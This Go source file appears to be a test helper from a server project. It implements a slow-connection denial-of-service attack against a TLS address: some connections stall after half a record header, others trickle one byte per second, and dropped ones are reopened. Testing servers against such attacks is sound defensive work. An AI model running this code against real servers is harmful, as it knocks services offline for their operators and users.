package hostile

import (
	"context"
	"crypto/tls"
	"math/rand/v2"
	"net"
	"sync"
	"time"

	"github.com/shivad/shivad/shiva"
	"github.com/shivad/shivad/shiva/tensor"
)

// Crawl keeps 2n connections to a server's TLS address until ctx ends: n begin a handshake and then
// send nothing, and n finish it and then send one byte of a message each second. A connection that
// the server closes is replaced a second later. Crawl calls ready once, when the handshakes of the
// second kind are done and those of the first kind begin.
func Crawl(ctx context.Context, addr string, n int, ready func()) error {
	x, err := tensor.FromSlice(tensor.Shape{}, []float32{1})
	if err != nil {
		return err
	}
	message, err := shiva.AppendMessage(nil, &shiva.Message{Namespace: "small", Tensors: []tensor.Tensor{x}})
	if err != nil {
		return err
	}
	var all, met sync.WaitGroup
	turns := make(chan struct{}, 16) // more handshakes at once would push each other out
	met.Add(n)
	for range n {
		all.Go(func() {
			first := sync.OnceFunc(met.Done)
			again(ctx, func() { dribble(ctx, addr, message, turns, first) })
			first()
		})
	}
	met.Wait()
	begun := []byte{22, 3, 1, 2, 0} // the head of a record of 512 bytes
	for range n {
		all.Go(func() {
			again(ctx, func() { hold(ctx, addr, begun) })
		})
	}
	ready()
	all.Wait()
	return nil
}

// again calls do until ctx ends, with about a second between the calls.
func again(ctx context.Context, do func()) {
	for ctx.Err() == nil {
		do()
		pause(ctx, time.Second)
	}
}

// pause waits for d/2 to 3d/2, or until ctx ends.
func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d/2 + rand.N(d)):
	}
}

// hold sends bytes and then nothing until the server hangs up, or ctx ends.
func hold(ctx context.Context, addr string, bytes []byte) {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
	if err != nil {
		return
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	if _, err := c.Write(bytes); err == nil {
		_, _ = c.Read(make([]byte, 1))
	}
}

// dribble waits for its turn, completes a handshake, calls met, and sends a byte each second until
// the server hangs up, or ctx ends.
func dribble(ctx context.Context, addr string, message []byte, turns chan struct{}, met func()) {
	turns <- struct{}{}
	// An attacker need not verify the server.
	c, err := (&tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true}}).DialContext(ctx, "tcp", addr)
	<-turns
	if err != nil {
		return
	}
	met()
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	for i := 0; ctx.Err() == nil; i++ {
		pause(ctx, time.Second)
		if _, err := c.Write(message[i%len(message):][:1]); err != nil {
			return
		}
	}
}
